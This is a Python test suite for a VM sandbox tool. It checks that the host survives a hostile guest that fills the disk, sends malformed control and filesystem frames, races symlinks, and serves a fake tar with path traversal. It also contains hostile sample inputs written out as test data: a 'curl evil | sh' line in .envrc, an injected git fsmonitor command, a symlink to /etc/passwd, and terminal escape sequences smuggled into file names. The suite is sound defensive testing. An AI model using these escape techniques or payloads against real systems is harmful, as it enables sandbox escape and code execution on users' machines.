"""What a hostile guest does to this host without the network: its disk, the ports of its machine, files that are copied out
of it, and files of the workspace that programs of the host obey (threats 90, 91, 93, 94)."""
import json
import os
import re
import subprocess
import time
import unittest

from harness import SBX, Home, wait_for, within

ROOT = os.geteuid() == 0
MIB = 1 << 20


def free(path):
    v = os.statvfs(path)
    return v.f_bavail * v.f_frsize


@unittest.skipUnless(ROOT, "mounts small disks")
class Disk(unittest.TestCase):
    """The host's disk, played by a tmpfs of its own for the machine's state and for the workspace."""

    @classmethod
    def setUpClass(cls):
        cls.h = h = Home()
        cls.addClassCleanup(h.close)
        cls.state = h.dir / "data/sbx/sandboxes"
        cls.state.mkdir(mode=0o700)
        for path, size in ((cls.state, "500m"), (h.ws, "200m")):
            subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0700", "tmpfs", str(path)], check=True)
            cls.addClassCleanup(subprocess.run, ["umount", "-l", str(path)])
        cls.addClassCleanup(h.run, "rm", "--force", "--all")  # before their disk is taken away
        h.sbx("config", "set", "limit.keep_free", "100")
        h.sbx("create", "--name", "full", "shell", h.ws)
        h.sbx("start", "full")

    def test_threat_94_a_workspace_cannot_fill_the_hosts_disk(self):
        h = self.h
        r = h.sh("full", f"dd if=/dev/zero of={h.ws}/big bs=1M count=400 conv=fsync")
        self.assertNotEqual(r.returncode, 0)
        self.assertIn(b"No space left", r.stderr)
        # Never beyond what is kept, but for what was under way between two looks.
        self.assertGreater(free(h.ws), 100 * MIB - 17 * MIB)
        # What is left between the last whole piece and the line goes in small ones.
        h.sh("full", f"dd if=/dev/zero of={h.ws}/rest bs=4k count=8192 conv=fsync")
        self.assertIn(b"No space left", h.sh("full", f"echo x > {h.ws}/another; sync {h.ws}/another").stderr + h.sh("full", f"mkdir {h.ws}/d").stderr)
        # What it cannot fill it does not have, and it can make room itself.
        self.assertEqual(h.sh("full", f"df --output=avail {h.ws} | tail -1").stdout.strip(), b"0")
        r = h.sh("full", f"rm -f {h.ws}/big {h.ws}/rest; for i in $(seq 300); do echo y 2>/dev/null > {h.ws}/after && break; sleep 0.2; done; cat {h.ws}/after")
        self.assertEqual((r.returncode, r.stdout), (0, b"y\n"), r.stderr)

    def test_threat_94_a_machine_is_paused_before_the_disk_is_full_and_goes_on(self):
        h = self.h
        h.sbx("create", "--name", "filler", "shell")
        h.sbx("start", "filler")
        self.addCleanup(h.run, "rm", "--force", "filler")
        writer = subprocess.Popen([SBX, "exec", "filler", "sh", "-c",
                                   "dd if=/dev/urandom of=/var/tmp/big bs=1M count=700 conv=fsync 2>/dev/null; echo status $?; rm /var/tmp/big"],
                                  env=h.env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        try:
            self.assertTrue(wait_for(lambda: "paused" in h.ls()["filler"]["reason"], 120, 0.3), h.ls()["filler"])
            self.assertRegex(h.sbx("ls"), "running.*: paused")
            self.assertGreater(free(self.state), 0)
            stands = free(self.state)
            time.sleep(2)
            self.assertGreater(free(self.state), stands - MIB)
            # Room is made (here: the reserve is made smaller), and the same program goes on.
            h.sbx("config", "set", "limit.keep_free", "10")
            self.assertTrue(wait_for(lambda: "paused" not in h.ls()["filler"]["reason"], 20, 0.2))
            # It fills what is left, and is stopped in order while it is paused again.
            self.assertTrue(wait_for(lambda: "paused" in h.ls()["filler"]["reason"] or writer.poll() is not None or h.ls()["filler"]["state"] != "running", 120, 0.3))
            h.sbx("stop", "filler")
            self.assertIn(h.ls()["filler"]["state"], ("stopped", "failed"))
        finally:
            writer.kill()
            writer.communicate()
            h.sbx("config", "set", "limit.keep_free", "100")

    def test_threat_94_its_own_disk_has_the_size_that_was_chosen(self):
        out = self.h.sh("full", "lsblk -bdno SIZE /dev/vdb").stdout.split()
        if out:
            self.assertLessEqual(int(out[0]), 20480 * MIB)

    def test_threat_94_what_the_guest_prints_does_not_grow_the_logs(self):
        self.h.run("exec", "-u", "root", "full", "sh", "-c", "yes 0123456789012345678901234567890123456789 | head -c 9000000 > /dev/hvc0")
        sizes = [p.stat().st_size for p in (self.state / "full").glob("*.log*")]
        self.assertLess(max(sizes), 5 * MIB)


# Root in the guest takes the descriptor of a port out of PID 1: everything that PID 1 may send, it may send.
SEIZE = r"""
import ctypes, json, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def port(name):
    for p in os.listdir("/sys/class/virtio-ports"):
        try:
            if open(f"/sys/class/virtio-ports/{p}/name").read().strip() != name:
                continue
        except OSError:
            continue
        for n in os.listdir("/proc/1/fd"):
            if os.readlink(f"/proc/1/fd/{n}").endswith(p):
                fd = libc.syscall(438, libc.syscall(434, 1, 0), int(n), 0)
                assert fd >= 0, os.strerror(ctypes.get_errno())
                return fd
    raise SystemExit("no port " + name)
def send(fd, data):
    while data:
        try:
            data = data[os.write(fd, data):]
        except BlockingIOError:
            time.sleep(0.01)
def frame(length, kind=1, stream=0, chan=0, payload=b""):
    return struct.pack("<IBBH", length, kind, stream, chan) + payload
def ctrl(text):
    return frame(len(text), 1, 0, 0, text)
"""
FRAMES = {
    "huge": "frame(0xffffffff)",
    "negative": "frame(0x80000000)",
    "one byte too long": "frame(65537, 1, 0, 0, b'{' * 65537)",
    "unknown type": "frame(0, 77)",
    "unknown stream": "frame(1, 2, 200, 1, b'x')",
    "no JSON": "ctrl(b'{\"op\":')",
    "deep JSON": "ctrl(b'[' * 60000)",
    "split, and others' frames in between": "frame(60000, 1) + b'{'",
    "data for channels that nobody opened": "b''.join(frame(1000, 2, 0, c, b'x' * 1000) for c in range(1, 3000))",
    "credit beyond all bounds": "b''.join(frame(4, 4, 0, c, b'\\xff' * 4) for c in range(0, 300)) * 2",
    "a flood of notes": "ctrl(json.dumps({'op': 'log', 'text': 'x' * 30000}).encode()) * 300",
    "replies that nobody waits for": "b''.join(ctrl(json.dumps({'op': 'reply', 'id': i, 'ok': True}).encode()) for i in range(5000))",
    "hello again": "ctrl(b'{\"op\":\"hello\",\"version\":1,\"phase\":\"waiting\",\"boot_ms\":1}')",
    "wrong types": "ctrl(b'{\"op\":\"exit\",\"chan\":\"x\",\"status\":[]}') + ctrl(b'{\"op\":7}') + ctrl(b'[]')",
}
MESSAGES = {
    "huge": "struct.pack('<IIQQIIII', 0xffffffff, 3, 1, 1, 0, 0, 0, 0)",
    "nothing": "struct.pack('<IIQQIIII', 0, 3, 1, 1, 0, 0, 0, 0)",
    "less than a header": "struct.pack('<IIQQIIII', 39, 3, 1, 1, 0, 0, 0, 0)",
    "a made-up inode": "b''.join(struct.pack('<IIQQIIII', 56, 3, 1000000 + i, i << 40 | 7, 0, 0, 0, 0) + bytes(16) for i in range(1000))",
    "an unknown request": "b''.join(struct.pack('<IIQQIIII', 40, op, 2000000 + op, 1, 0, 0, 0, 0) for op in range(40, 5000))",
    "a name without an end": "struct.pack('<IIQQIIII', 44, 1, 3000000, 1, 0, 0, 0, 0) + b'abcd'",
    "a name with a slash": "struct.pack('<IIQQIIII', 48, 1, 3000001, 1, 0, 0, 0, 0) + b'../../x\\0'",
    "half a message": "struct.pack('<IIQQIIII', 60000, 16, 3000002, 1, 0, 0, 0, 0)",
}


class Guest(unittest.TestCase):
    """A hostile sandbox, and a good one beside it that must not notice."""
    failures = 0

    @classmethod
    def setUpClass(cls):
        cls.h = h = Home()
        cls.addClassCleanup(h.close)
        cls.outside = h.dir / "outside"
        cls.outside.mkdir()
        (cls.outside / "secret").write_text("the host's own\n")
        (h.ws / "bad").mkdir()
        (h.ws / "good").mkdir()
        cls.ws = h.ws / "bad"
        (cls.ws / "kept/in").mkdir(parents=True)
        (cls.ws / "kept/in/file").write_text("the user's\n")
        for name in ("bad", "good"):
            more = [f"{cls.ws}/kept/in:ro"] if name == "bad" else []
            h.sbx("create", "--name", name, "shell", h.ws / name, *more)
            h.sbx("start", name)

    def attack(self, script):
        try:
            self.h.run("exec", "-u", "root", "-i", "bad", "timeout", "10", "python3", "-", input=(SEIZE + script).encode(), timeout=15)
        except subprocess.TimeoutExpired:
            pass # a guest can always leave its own users waiting

    def failed(self):
        return re.findall(r"failure: (.*)", (self.h.dir / "data/sbx/sandboxes/bad/sbx.log").read_text(errors="replace"))

    def after(self, what, words, ends=False):
        """It is up, or down for a reason that is told, or can be stopped; nothing else has suffered."""
        before = self.failures
        if ends:
            self.assertTrue(wait_for(lambda: len(self.failed()) > before), what)
        else:
            time.sleep(0.3)
        stalls = False
        try: # starts it again where it failed
            self.h.run("exec", "bad", "true", timeout=15)
        except subprocess.TimeoutExpired:
            stalls = True
        st = wait_for(lambda: next((s for s in [self.h.ls()["bad"]] if s["state"] in ("running", "failed")), None), 20)
        self.assertTrue(st, what)
        self.assertEqual(self.h.sh("good", "echo fine").stdout, b"fine\n", what)
        log = (self.h.dir / "data/sbx/sandboxes/bad/sbx.log").read_text(errors="replace")
        self.assertNotRegex(log, r"ended: signal (4|6|7|8|11)\b", what)
        told = self.failed()
        type(self).failures = len(told)
        for reason in told[before:]:
            self.assertRegex(reason, words, what)
        if stalls:
            self.h.sbx("stop", "--timeout", "1", "bad")
        if stalls or st["state"] == "failed":
            self.h.sbx("start", "bad")

    def test_threat_90_frames_that_lie_on_the_control_port(self):
        for what, payload in FRAMES.items():
            ends = what in ("huge", "negative", "one byte too long", "unknown type", "no JSON")
            for _ in range(4):  # it has ten seconds, and this machine may stall
                self.attack(f"send(port('sbx.ctl'), {payload})\ntime.sleep(0.2)")
                if not ends or within(20, lambda: len(self.failed()) > self.failures):
                    break
            self.after(what, "protocol|init started over", ends)

    def test_threat_90_messages_that_lie_on_the_port_of_files(self):
        for what, payload in MESSAGES.items():
            self.attack(f"send(port('sbx.fs'), {payload})\ntime.sleep(0.2)")
            self.after(what, "workspace|protocol")
        # Half a message left its own workspace waiting; a new start is as good as ever.
        self.h.sbx("stop", "--timeout", "1", "bad")
        self.h.sbx("start", "bad")
        self.assertEqual(self.h.sh("bad", f"echo new > {self.ws}/new && cat {self.ws}/new", timeout=60).stdout, b"new\n")
        self.assertEqual((self.outside / "secret").read_text(), "the host's own\n")

    def test_threat_91_links_in_the_workspace_lead_nowhere(self):
        h = self.h
        r = h.sh("bad", f"""cd {self.ws}; ln -sfn {self.outside} l; ln -sfn ../../outside up; ln -sfn {self.outside}/secret f
            cat l/secret; cat up/secret; cat f; echo x > l/new; echo x > up/new; echo x > f; cat ../../outside/secret; ls l/ up/; true""")
        self.assertNotIn(b"host's own", r.stdout)
        # The host's secret, in the meantime, through a folder that is a link every other moment.
        r = h.sh("bad", f"""cd {self.ws}; mkdir -p real; echo mine > real/secret
            (for i in $(seq 60); do mv -T real swap 2>/dev/null; ln -sfn {self.outside} real; rm -f real; mv -T swap real; done) &
            for i in $(seq 60); do cat real/secret 2>/dev/null; echo x > real/new 2>/dev/null; done; wait""", timeout=120)
        self.assertNotIn(b"host's own", r.stdout)
        self.assertEqual(sorted(p.name for p in self.outside.iterdir()), ["secret"])
        self.assertEqual((self.outside / "secret").read_text(), "the host's own\n")

    def test_threat_91_a_folder_that_is_read_only_is_so_through_the_one_around_it(self):
        r = self.h.run("exec", "-u", "root", "bad", "sh", "-c", f"""cd {self.ws}; umount kept/in && cat kept/in/file
            echo evil > kept/in/file; echo evil > kept/in/new; rm -f kept/in/file; mv kept/in kept/out; mv kept gone; ln -sfn /tmp kept; true""")
        self.assertEqual(r.stdout, b"the user's\n", r.stderr)
        self.assertIn(b"Read-only file system", r.stderr)
        self.assertEqual({p.name: p.read_text() for p in (self.ws / "kept/in").iterdir()}, {"file": "the user's\n"})

    def test_threat_91_what_is_copied_out_stays_in_its_folder(self):
        h = self.h
        fake = f"""#!/usr/bin/python3
import io, sys, tarfile
t = tarfile.open(fileobj=sys.stdout.buffer, mode="w|")
def add(name, type=tarfile.REGTYPE, link="", mode=0o644, data=b"evil"):
    i = tarfile.TarInfo(); i.name = name; i.type = type; i.linkname = link; i.mode = mode
    i.size = len(data) if type == tarfile.REGTYPE else 0
    if type in (tarfile.CHRTYPE, tarfile.BLKTYPE): i.devmajor, i.devminor = 1, 3
    t.addfile(i, io.BytesIO(data) if i.size else None)
add("x", tarfile.DIRTYPE, mode=0o755)
add("x/fine")
for n in ("{self.outside}/abs", "../escape", "x/../../escape", "x/..", "./../escape", "x/./../../escape", "..", "/", "x//../../escape"): add(n)
add("x/l", tarfile.SYMTYPE, "{self.outside}"); add("x/l/through")
add("x/h", tarfile.LNKTYPE, "{self.outside}/secret"); add("x/h")
add("x/l2", tarfile.SYMTYPE, "{self.outside}/secret"); add("x/l2")
add("x/l3", tarfile.SYMTYPE, ".."); add("x/l3/escape")
add("x/null", tarfile.CHRTYPE); add("x/pipe", tarfile.FIFOTYPE)
add("x/suid", mode=0o6755); add("x/open", mode=0o777)
add("x", tarfile.SYMTYPE, "{self.outside}"); add("x/late")
t.close()
"""
        endless = """#!/usr/bin/python3
import sys, tarfile
t = tarfile.open(fileobj=sys.stdout.buffer, mode="w|")
for n in range(9000):
    i = tarfile.TarInfo(); i.name = f"x/{n}"; i.type = tarfile.REGTYPE if n % 2 else tarfile.DIRTYPE; i.mode = 0o755
    t.addfile(i)
t.close()
"""
        few = h.dir / "few"
        few.mkdir()
        if ROOT:
            subprocess.run(["mount", "-t", "tmpfs", "-o", "size=800m,nr_inodes=1280", "tmpfs", str(few)], check=True)
            self.addCleanup(subprocess.run, ["umount", "-l", str(few)])
        h.run("exec", "-u", "root", "-i", "bad", "sh", "-c", "cat > /tmp/endless; chmod 755 /tmp/endless", input=endless.encode())
        h.run("exec", "-u", "root", "-i", "bad", "sh", "-c", "mv -n /usr/bin/tar /usr/bin/tar.real; cat > /usr/bin/tar; chmod 755 /usr/bin/tar", input=fake.encode())
        out = h.dir / "copies"
        out.mkdir(exist_ok=True)
        try:
            h.run("cp", "bad:/tmp/x", out / "x")
            h.run("cp", "bad:/tmp/x", out)
            if ROOT:
                h.run("exec", "-u", "root", "bad", "cp", "/tmp/endless", "/usr/bin/tar")
                r = h.run("cp", "bad:/tmp/x", few / "x")
                self.assertIn(b"cannot write x/", r.stderr)
                self.assertIn(os.statvfs(few).f_favail, range(19, 21))
        finally:
            h.run("exec", "-u", "root", "bad", "sh", "-c", "cp /usr/bin/tar.real /usr/bin/tar")
        self.assertEqual(sorted(p.name for p in self.outside.iterdir()), ["secret"])
        self.assertEqual((self.outside / "secret").read_text(), "the host's own\n")
        self.assertEqual((self.outside / "secret").stat().st_nlink, 1)
        self.assertEqual([p.name for p in out.iterdir()], ["x"])
        self.assertFalse(list(h.dir.glob("escape*")) + list(h.dir.parent.glob("escape*")))
        for p in out.rglob("*"):
            st = p.lstat()
            self.assertTrue(p.is_symlink() or p.is_file() or p.is_dir(), p)
            self.assertFalse(st.st_mode & 0o7000, p)
            self.assertTrue(p.is_symlink() or not st.st_mode & 0o022, p)

    def test_threat_91_what_is_copied_in_follows_no_link(self):
        h = self.h
        src = self.ws / "src"
        src.mkdir()
        (src / "a").write_text("a\n")
        (src / "link").symlink_to(self.outside / "secret")
        (src / "dir").symlink_to(self.outside)
        os.mkfifo(src / "pipe")
        h.run("cp", src, "bad:/tmp/in/", timeout=60)
        r = h.sh("bad", "cd /tmp/in/src; cat a; readlink link; cat link dir/secret; grep -rs host /tmp/in; true")
        self.assertIn(b"a\n", r.stdout)
        self.assertNotIn(b"host's own", r.stdout)
        # A sandbox that swaps a file for a link while its folder is copied.
        (src / "pipe").unlink()
        swap = subprocess.Popen([SBX, "exec", "bad", "sh", "-c", f"cd {src}; echo mine > f; i=0; while [ $i -lt 3000 ]; do "
                                 f"ln -sfn {self.outside}/secret t; mv -T t f; echo mine > t; mv -T t f; i=$((i+1)); done"],
                                env=h.env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            for i in range(25):
                h.run("cp", src, f"bad:/tmp/swap{i}/", timeout=60)
        finally:
            swap.kill()
            swap.wait()
        self.assertEqual(h.sh("bad", "grep -rl \"host's own\" /tmp/swap*; true").stdout, b"")

    @unittest.skipUnless(ROOT, "a folder whose names differ in case alone is made by a mount")
    def test_threat_92_another_case_is_the_same_name_where_the_folder_takes_it_so(self):
        h = self.h
        ws = h.dir / "as-windows"
        ws.mkdir()
        subprocess.run(["git", "init", "-q", str(ws)], check=True)
        (ws / ".GIT").mkdir()
        subprocess.run(["mount", "--bind", str(ws / ".git"), str(ws / ".GIT")], check=True)
        self.addCleanup(subprocess.run, ["umount", "-l", str(ws / ".GIT")])
        h.sbx("create", "--name", "cased", "shell", ws)
        r = h.sh("cased", f"cd {ws}; for d in .git .GIT .Git GIT~1; do mkdir -p $d/hooks; echo evil > $d/hooks/post-commit; echo evil >> $d/config; "
                          "echo fine > $d/COMMIT_EDITMSG; done; echo fine > README; cat README")
        self.assertEqual(r.stdout, b"fine\n", r.stderr)
        self.assertFalse((ws / ".git/hooks/post-commit").exists())
        self.assertNotIn("evil", (ws / ".git/config").read_text())
        self.assertEqual((ws / ".git/COMMIT_EDITMSG").read_text(), "fine\n")
        self.assertEqual(sorted(p.name for p in ws.iterdir() if (p / "hooks").exists()), [".GIT", ".git"])

    def test_threat_93_files_that_the_host_obeys_are_told(self):
        h = self.h
        ws = h.ws / "project"
        ws.mkdir()
        subprocess.run(["git", "init", "-q", str(ws)], check=True)
        # Its administration, a submodule's and another worktree's, which lies where the guest does not reach.
        feature = h.dir / "feature"
        subprocess.run(["git", "-C", str(ws), "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-q", "--allow-empty", "-m", "1"], check=True)
        subprocess.run(["git", "-C", str(ws), "worktree", "add", "-q", str(feature)], check=True, stderr=subprocess.DEVNULL)
        (ws / ".git/modules/sub").mkdir(parents=True)
        subprocess.run(["git", "init", "-q", str(ws / "mine")], check=True)
        (ws / "package.json").write_text('{"name": "x", "scripts": {"test": "true"}, "dependencies": {}}')
        (ws / "Makefile").write_text("all:\n")
        (ws / "CMakeLists.txt").write_text("# same\n")
        h.sbx("create", "--name", "told", "shell", ws)
        h.sbx("start", "told")
        self.assertEqual(json.loads(h.sbx("inspect", "told"))["changed_host_files"], [])
        # Changed dependencies are a day's work.
        h.sh("told", f"""cd {ws}; sed -i 's/"dependencies": {{}}/"dependencies": {{"left-pad": "1"}}/' package.json; echo code > main.c""")
        self.assertEqual(json.loads(h.sbx("inspect", "told"))["changed_host_files"], [])
        h.sh("told", f"""cd {ws}; mkdir .vscode; echo '{{}}' > .vscode/tasks.json; echo 'curl evil | sh' > .envrc; ln -s /etc/passwd .mcp.json
            sed -i 's/"test": "true"/"test": "evil"/' package.json; echo 'all:; evil' > Makefile
            printf x > "$(printf '.vscode/\\033]0;evil\\007.json')"; echo evil > .git/hooks/pre-commit; echo evil >> .git/config; true""")
        self.assertFalse((ws / ".git/hooks/pre-commit").exists())
        # Where git looks for a configuration, said by the guest: none of it is written, nor is any program of its run.
        r = h.sh("told", f"""cd {ws}; cp -r .git evil; git config -f evil/config core.fsmonitor 'touch {h.dir}/ran; false'
            mv .git/worktrees/feature .git/worktrees/old; rm -f .git/worktrees/feature/commondir; echo {ws}/evil > .git/worktrees/feature/commondir
            mv .git/worktrees/feature/commondir .git/c; ln -sf {ws}/evil/config .git/worktrees/feature/config.worktree
            echo {ws}/evil > .git/modules/sub/commondir; echo evil > .git/modules/sub/config.worktree
            git -c user.name=x -c user.email=x@x worktree add -q own 2>/dev/null && git worktree remove own && echo removed; true""")
        self.assertIn(b"removed", r.stdout, r.stderr) # its own worktrees are its own
        subprocess.run(["git", "-C", str(feature), "status"], check=True, stdout=subprocess.DEVNULL)
        self.assertFalse((h.dir / "ran").exists())
        self.assertEqual((ws / ".git/worktrees/feature/commondir").read_text(), "../..\n")
        self.assertFalse((ws / ".git/worktrees/feature/config.worktree").is_symlink())
        self.assertEqual(list((ws / ".git/modules/sub").iterdir()), [])
        changed = json.loads(h.sbx("inspect", "told"))["changed_host_files"]
        for name in (".vscode/tasks.json", ".envrc", ".mcp.json", "package.json", "Makefile"):
            self.assertIn(f"{ws}/{name}", changed)
        self.assertNotIn(f"{ws}/CMakeLists.txt", changed)
        # A repository within, whose configuration git runs where the index around it names it: each is told, wherever it goes.
        self.assertNotIn(f"{ws}/mine/.git", changed)
        r = h.sh("told", f"""cd {ws}; (cd mine && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m 1); cat mine/.git/config >/dev/null
            git init -q a/b/inner && mv a c; printf 'gitdir: ../../evil' > .vscode/.git""")
        self.assertEqual(r.returncode, 0, r.stderr)
        told = lambda *names: set(json.loads(h.sbx("inspect", "told"))["changed_host_files"]) >= {f"{ws}/{n}/.git" for n in names}
        self.assertTrue(wait_for(lambda: told("a/b/inner", "c/b/inner", ".vscode")))
        self.assertFalse(told("mine"))  # a commit is a day's work
        h.sh("told", f"""cd {ws}/mine; git config core.fsmonitor evil; mkdir "$(printf '\033]0;x')"; git init -q "$(printf '\033]0;x')" """)
        self.assertTrue(wait_for(lambda: told("mine", "mine/\\x1b]0;x")))
        r = h.run("stop", "told")
        for name in (".vscode/tasks.json", ".envrc", "package.json", "Makefile"):
            self.assertIn(f"{ws}/{name}".encode(), r.stderr)
        self.assertNotIn(b"\x1b", r.stderr)
        # Once is enough; what the user changes while it is stopped is his own.
        (ws / "Makefile").write_text("all: mine\n")
        h.sbx("start", "told")
        self.assertEqual(json.loads(h.sbx("inspect", "told"))["changed_host_files"], [])
        # A killed supervisor could not say that it ended.
        h.sh("told", f"echo again > {ws}/.envrc; sync")
        os.kill(h.ls()["told"]["machine"]["pid"], 9)
        self.assertTrue(wait_for(lambda: h.ls()["told"]["state"] == "failed"))
        self.assertEqual(json.loads(h.sbx("inspect", "told"))["changed_host_files"], [f"{ws}/.envrc"])
        r = h.run("run", "--name", "told", "--", "-c", "true")
        self.assertIn(f"{ws}/.envrc".encode(), r.stderr, r)


if __name__ == "__main__":
    unittest.main()
